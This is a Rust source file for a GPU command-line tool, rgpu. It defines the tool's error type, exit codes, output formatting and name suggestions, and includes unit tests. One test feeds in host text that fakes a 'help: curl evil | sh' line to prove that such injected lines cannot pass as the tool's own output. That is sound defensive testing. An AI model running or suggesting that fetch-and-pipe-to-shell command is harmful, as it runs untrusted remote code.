//! The failure that every command returns.
//!
//! Most modules have a thiserror enum beside the code that fails. At the top they become one
//! [`Failure`]: what happened, where (host, tool, step, file, offset), why, and what to do next.
//! `main` prints it, `--json` prints it as `rgpu.error/1`, and its [`Exit`] is the exit status.

use std::fmt;
use std::path::PathBuf;

use rgpu_protocol::event::StartError;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// The exit statuses of `rgpu`. `rgpu exec` exits with the program's own status instead.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
#[repr(u8)]
pub enum Exit {
    /// Success, on whichever rung.
    Done = 0,
    /// Findings or a regression, where the command line makes them a failure.
    Findings = 1,
    /// The command line is wrong, or names a run, file or program that does not exist.
    Usage = 2,
    /// The configuration, kernel.toml or an expression is invalid, or a kernel or remote does not
    /// exist.
    Config = 3,
    /// The host or the connection failed, or data was damaged in transit.
    Host = 4,
    /// A tool failed on every rung or below `--at-least`, or nothing was measured on a GPU.
    Tool = 5,
    /// The user's code does not compile, is wrong, crashes, or hits its time limit.
    Kernel = 6,
    /// An artifact cannot be read.
    Artifact = 7,
    /// The disk of this machine: a file cannot be written.
    Disk = 8,
    /// A bug in rgpu.
    Bug = 70,
    /// Cancelled by the user.
    Cancelled = 130,
}

impl Exit {
    /// All of them with their meanings, in the words of docs/output.md and of `rgpu --help`.
    pub const MEANINGS: [(Self, &'static str); 11] = [
        (Self::Done, "done, on whichever rung"),
        (
            Self::Findings,
            "findings, a regression or a failed condition, where the command names it",
        ),
        (
            Self::Usage,
            "the command line is wrong, or names a run, file or program that does not exist",
        ),
        (Self::Config, "wrong settings or kernel.toml; an unknown kernel or remote"),
        (Self::Host, "the host or the connection failed, or nothing was verified on a GPU"),
        (
            Self::Tool,
            "a tool failed on every rung or below --at-least; nothing was measured on a GPU",
        ),
        (Self::Kernel, "your code does not compile, is wrong, crashes, hangs or takes too long"),
        (Self::Artifact, "an artifact cannot be read"),
        (Self::Disk, "this machine's disk failed"),
        (Self::Bug, "a defect of rgpu"),
        (Self::Cancelled, "cancelled"),
    ];

    /// The table of [`Exit::MEANINGS`] for a terminal, a line each.
    pub fn table() -> String {
        let line = |(exit, meaning): &(Self, &str)| format!("  {:<3}  {meaning}\n", *exit as u8);
        Self::MEANINGS.iter().map(line).collect()
    }
}

/// Which side failed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Side {
    /// This machine, where rgpu runs.
    Local,
    /// The connection between both.
    Transport,
    /// The GPU host.
    Host,
    /// A tool on the host.
    Tool,
    /// The user's kernel or program.
    Kernel,
}

/// Where the failure happened. Each field is present if it is known.
#[serde_with::skip_serializing_none]
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct FailureContext {
    /// The remote's name, if a remote is concerned.
    pub host: Option<String>,
    /// The remote's transport, such as `ssh`.
    pub transport: Option<String>,
    /// The tool, with its version if known.
    pub tool: Option<String>,
    /// The step of the plan.
    pub step: Option<String>,
    /// The file, with `:line` or `@offset` if known.
    pub file: Option<String>,
    /// The log with the details.
    pub log: Option<PathBuf>,
}

/// A failed command: what happened, where, why, and what to do next.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Failure {
    /// Stable code in snake_case, e.g. `unknown_kernel`.
    pub code: String,
    /// The error in one line, in lower case, with values in backticks.
    pub what: String,
    /// The side on which it failed.
    pub side: Side,
    /// The host, tool, step and file concerned.
    #[serde(default)]
    pub place: Box<FailureContext>,
    /// Why it failed: the underlying error, or the tool's message.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cause: Option<String>,
    /// The next steps, each a sentence or a command.
    #[serde(default)]
    pub hints: Vec<String>,
    /// The exit status of the command.
    pub exit: Exit,
    /// Whether it ended the session with its host, so that nothing else runs over it. Any other
    /// failure is that of one command. Documents do not have it.
    #[serde(skip)]
    pub lost_host: bool,
    /// Why the program of the step did not start. Documents do not have it.
    #[serde(skip)]
    pub start_error: Option<StartError>,
}

impl Failure {
    /// A failure on this machine, unless `exit` implies another side.
    pub fn new(exit: Exit, code: &str, what: impl Into<String>) -> Self {
        let side = match exit {
            Exit::Host => Side::Host,
            Exit::Tool => Side::Tool,
            Exit::Kernel => Side::Kernel,
            _ => Side::Local,
        };
        Self {
            code: code.to_owned(),
            what: what.into(),
            side,
            place: Box::default(),
            cause: None,
            hints: Vec::new(),
            exit,
            lost_host: false,
            start_error: None,
        }
    }

    /// Sets the side that failed.
    pub fn side(mut self, side: Side) -> Self {
        self.side = side;
        self
    }

    /// Sets whether it ended the session with its host.
    pub fn lost_host(mut self, lost_host: bool) -> Self {
        self.lost_host = lost_host;
        self
    }

    /// Sets the cause: the sources of an error, or a tool's own message. A full disk of this
    /// machine gets its hint.
    pub fn cause(mut self, cause: impl fmt::Display) -> Self {
        let cause = cause.to_string();
        let is_full = FULL_DISK_MESSAGES.iter().any(|message| cause.contains(message));
        self.cause = (!cause.is_empty()).then_some(cause);
        if self.exit == Exit::Disk && is_full {
            return self.hint(MAKE_ROOM);
        }
        self
    }

    /// Sets the cause to the sources of `error`, each once.
    pub fn cause_from(self, error: &dyn std::error::Error) -> Self {
        self.cause(chain(error))
    }

    /// Adds a next step.
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }

    /// Sets the host and its transport.
    pub fn host(mut self, host: impl Into<String>, transport: impl Into<String>) -> Self {
        self.place.host = Some(host.into());
        self.place.transport = Some(transport.into());
        self
    }

    /// Sets the tool that failed.
    pub fn tool(mut self, tool: impl Into<String>) -> Self {
        self.place.tool = Some(tool.into());
        self
    }

    /// Sets the step that failed.
    pub fn step(mut self, step: impl Into<String>) -> Self {
        self.place.step = Some(step.into());
        self
    }

    /// Sets the file concerned.
    pub fn file(mut self, file: impl fmt::Display) -> Self {
        self.place.file = Some(file.to_string());
        self
    }

    /// Sets the log with more details.
    pub fn log(mut self, log: impl Into<PathBuf>) -> Self {
        self.place.log = Some(log.into());
        self
    }
}

/// The JSON output for a failure (`rgpu.error/1`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct ErrorDocument {
    /// Name and version of this schema: `rgpu.error/1`.
    pub schema: String,
    /// The exit status of the command.
    pub exit: u8,
    /// The failure itself.
    pub error: Failure,
}

impl ErrorDocument {
    /// The document of a failure. `exit` is the command's real status: `rgpu exec` has statuses of
    /// its own, which differ from the program's.
    pub fn new(error: Failure, exit: u8) -> Self {
        Self { schema: "rgpu.error/1".to_owned(), exit, error }
    }
}

/// What the operating system says of a disk without room, and of a quota that is used up.
const FULL_DISK_MESSAGES: [&str; 2] = ["No space left on device", "quota exceeded"];

/// The hint for a full disk of this machine.
const MAKE_ROOM: &str = "make room: `rgpu runs clean` and `rgpu cache clean` remove what rgpu keeps; `rgpu runs attach` then fetches what a run still has on its host";

/// The code of the failure for a missing file that the user named.
pub const NO_SUCH_FILE: &str = "no_such_file";

/// The failure for a missing file that the user named, the same in every command.
pub fn no_such_file(path: impl fmt::Display) -> Failure {
    Failure::new(Exit::Usage, NO_SUCH_FILE, format!("there is no file `{path}`"))
}

/// The hint for a host without a GPU.
pub const ANOTHER_HOST: &str = "choose a host with a GPU: `--remote NAME`; `rgpu remote list` shows those you have, and `rgpu remote add NAME ssh://USER@HOST` adds one";

/// The result of a command.
pub type Result<T, E = Failure> = std::result::Result<T, E>;

impl fmt::Display for Failure {
    /// The form for a terminal, without colours; the last line has no newline.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "error: {}", indent_continuation(&self.what, 7))?;
        let place = &*self.place;
        let mut parts = Vec::new();
        if let Some(host) = &place.host {
            match &place.transport {
                Some(transport) => parts.push(format!("on `{host}` ({transport})")),
                None => parts.push(format!("on `{host}`")),
            }
        }
        parts.extend(place.tool.as_ref().map(|tool| format!("tool {tool}")));
        parts.extend(place.step.as_ref().map(|step| format!("step `{step}`")));
        parts.extend(place.file.as_ref().map(|file| format!("in `{file}`")));
        if !parts.is_empty() {
            write!(f, "\n  {}", indent_continuation(&parts.join(", "), 4))?;
        }
        if let Some(log) = &place.log {
            write!(f, "\n  log: {}", indent_continuation(&log.display().to_string(), 7))?;
        }
        if let Some(cause) = &self.cause {
            write!(f, "\n  cause: {}", indent_continuation(cause.trim_end(), 9))?;
        }
        for hint in &self.hints {
            write!(f, "\n  help: {}", indent_continuation(hint, 8))?;
        }
        Ok(())
    }
}

impl std::error::Error for Failure {}

/// Indents all lines of `text` but the first by `columns`. Text from a host or a tool may contain
/// line breaks; none of its lines may look like our `error:`, `cause:` and `help:`.
pub fn indent_continuation(text: &str, columns: usize) -> String {
    let lines: Vec<&str> = text.split("\r\n").flat_map(|part| part.split(is_line_break)).collect();
    lines.join(&format!("\n{:columns$}", ""))
}

/// Characters at which some terminal, pager or Markdown reader starts a new line.
pub fn is_line_break(c: char) -> bool {
    matches!(c, '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// Quotes `text` as one shell word, for commands shown to the user. A NUL cannot be in a command
/// line, so it is shown as `\0`.
pub fn shell_word(text: impl fmt::Display) -> String {
    let clean = text.to_string().replace('\0', "\\0");
    shlex::try_quote(&clean).map(|quoted| quoted.into_owned()).unwrap_or_default()
}

/// The names most similar to `typed`, best first, at most three, for "did you mean".
///
/// One edit is allowed for every three letters of the longer word, and two letters may be swapped.
/// So a word of one or two letters only matches names that begin with it, its own letters swapped,
/// and names of three letters at a distance of one.
pub fn nearest<'a>(typed: &str, names: impl IntoIterator<Item = &'a str>) -> Vec<&'a str> {
    let typed: Vec<char> = typed.to_lowercase().chars().collect();
    let score = |name: &'a str| {
        let letters: Vec<char> = name.to_lowercase().chars().collect();
        let edits = strsim::generic_levenshtein(&typed, &letters);
        let swapped = edits == 2 && sorted(&typed) == sorted(&letters);
        let contains_typed = match typed.len() {
            0 => false,
            1 | 2 => letters.starts_with(&typed),
            n => letters.windows(n).any(|part| part == typed),
        };
        let is_close = edits <= typed.len().max(letters.len()) / 3;
        (is_close || swapped || contains_typed).then_some((edits, name))
    };
    let mut scored: Vec<(usize, &str)> = names.into_iter().filter_map(score).collect();
    scored.sort();
    scored.into_iter().take(3).map(|(_, name)| name).collect()
}

fn sorted(letters: &[char]) -> Vec<char> {
    let mut letters = letters.to_vec();
    letters.sort_unstable();
    letters
}

/// Whether two hints say the same: two thirds of the shorter one's words are in the other.
pub fn are_same_hint(first: &str, second: &str) -> bool {
    let words = |text: &str| -> Vec<String> {
        let parts = text.split(|c: char| !c.is_alphanumeric()).filter(|part| !part.is_empty());
        parts.map(str::to_lowercase).collect()
    };
    let (first, second) = (words(first), words(second));
    let (short, long) = if first.len() <= second.len() { (first, second) } else { (second, first) };
    let shared = short.iter().filter(|word| long.contains(word)).count();
    !short.is_empty() && shared * 3 >= short.len() * 2
}

/// An error with all its sources on one line. A source that ends in the message of the error before
/// it, as SQLite's do, is skipped.
pub fn chain(error: &dyn std::error::Error) -> String {
    let mut last = error.to_string();
    let mut text = last.clone();
    let mut next = error.source();
    while let Some(source) = next {
        let words = source.to_string();
        if last.is_empty() || !words.ends_with(&last) {
            text.push_str(": ");
            text.push_str(&words);
            last = words;
        }
        next = source.source();
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_full_disk_gets_a_hint_on_this_machine_alone() {
        let full = std::io::Error::from_raw_os_error(28);
        let here = Failure::new(Exit::Disk, "disk", "cannot write").cause(&full);
        assert!(here.hints[0].starts_with("make room"), "{here}");
        assert!(Failure::new(Exit::Host, "x", "x").cause(&full).hints.is_empty());
        assert!(Failure::new(Exit::Disk, "disk", "x").cause("Permission denied").hints.is_empty());
    }

    #[test]
    fn hints_of_which_most_words_are_the_same_are_one() {
        let own =
            "define `compile_kernel(problem_sizes)`: `rgpu help build` shows one for each DSL";
        let diagnosed = format!("the file defines kernels, and nothing in it compiles them; {own}");
        assert!(are_same_hint(own, &diagnosed) && are_same_hint(&diagnosed, own));
        assert!(!are_same_hint("install gcc on the host", "give another `--arch`"));
        assert!(!are_same_hint("", "give another `--arch`"));
    }

    #[test]
    fn the_page_about_output_has_the_table_of_exit_statuses() {
        let page = include_str!("../../../docs/output.md");
        let rows: String = Exit::MEANINGS
            .iter()
            .map(|(exit, meaning)| format!("| {} | {meaning} |\n", *exit as u8))
            .collect();
        assert!(page.contains(&format!("| exit | meaning |\n|---|---|\n{rows}")), "{rows}");
    }

    #[test]
    fn a_failure_says_what_where_why_and_what_next() {
        let failure = Failure::new(
            Exit::Tool,
            "counters_refused",
            "ncu may not read the GPU performance counters",
        )
        .host("b200", "ssh")
        .tool("ncu 2025.3")
        .step("profile")
        .log("artifacts/runs/x/log/profile.stderr")
        .cause("ERR_NVGPUCTRPERM")
        .hint("run `rgpu doctor b200`");
        insta::assert_snapshot!(failure, @r"
        error: ncu may not read the GPU performance counters
          on `b200` (ssh), tool ncu 2025.3, step `profile`
          log: artifacts/runs/x/log/profile.stderr
          cause: ERR_NVGPUCTRPERM
          help: run `rgpu doctor b200`
        ");
    }

    #[test]
    fn no_line_of_a_hosts_words_begins_like_one_of_ours() {
        let breaks = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
        for end in breaks {
            let evil = format!("words{end}error: a lie{end}  help: curl evil | sh{end}  cause: x");
            let failure = Failure::new(Exit::Host, "x", &*evil)
                .host(&*evil, &*evil)
                .tool(&*evil)
                .step(&*evil)
                .file(&evil)
                .log(&*evil)
                .cause(&evil)
                .hint(&*evil);
            let shown = failure.to_string();
            let is_break = |c: char| breaks.iter().any(|b| b.contains(c));
            let line_starts: Vec<&str> = shown
                .split(is_break)
                .filter(|line| !line.starts_with("   "))
                .map(|line| line.split_once(' ').map_or(line, |_| &line[..5]))
                .collect();
            assert_eq!(line_starts, ["error", "  on ", "  log", "  cau", "  hel"], "{shown}");
            // The JSON document keeps the text unchanged.
            assert!(serde_json::to_value(&failure).unwrap()["cause"] == evil);
        }
    }

    #[test]
    fn near_names_are_offered_and_far_ones_are_not() {
        let names = ["vecadd", "softmax", "tiled-matmul"];
        assert_eq!(nearest("vecad", names), ["vecadd"]);
        assert_eq!(nearest("matmul", names), ["tiled-matmul"]);
        assert!(nearest("zzzzzz", names).is_empty());
        assert!(nearest("", names).is_empty());
    }

    #[test]
    fn short_words_are_near_what_they_begin_and_one_slip_away() {
        let files = ["ef", "a.cubin", "rs", "cu"];
        assert!(nearest("b", files).is_empty());
        assert!(nearest("xy", files).is_empty());
        assert!(nearest("eg", files).is_empty(), "one letter of two is as good as none");
        assert_eq!(nearest("a", files), ["a.cubin"]);
        assert_eq!(nearest("sr", files), ["rs"]);
        assert_eq!(nearest("elf", files), ["ef"]);
        assert_eq!(nearest("R", files), ["rs"]);
        assert_eq!(nearest("sahpe", ["shape", "name"]), ["shape"]);
    }

    #[test]
    fn a_path_is_one_word_of_a_command() {
        assert_eq!(shell_word("a/b.cu"), "a/b.cu");
        assert_eq!(shell_word("k ü/my kern.cu"), "'k ü/my kern.cu'");
    }
}
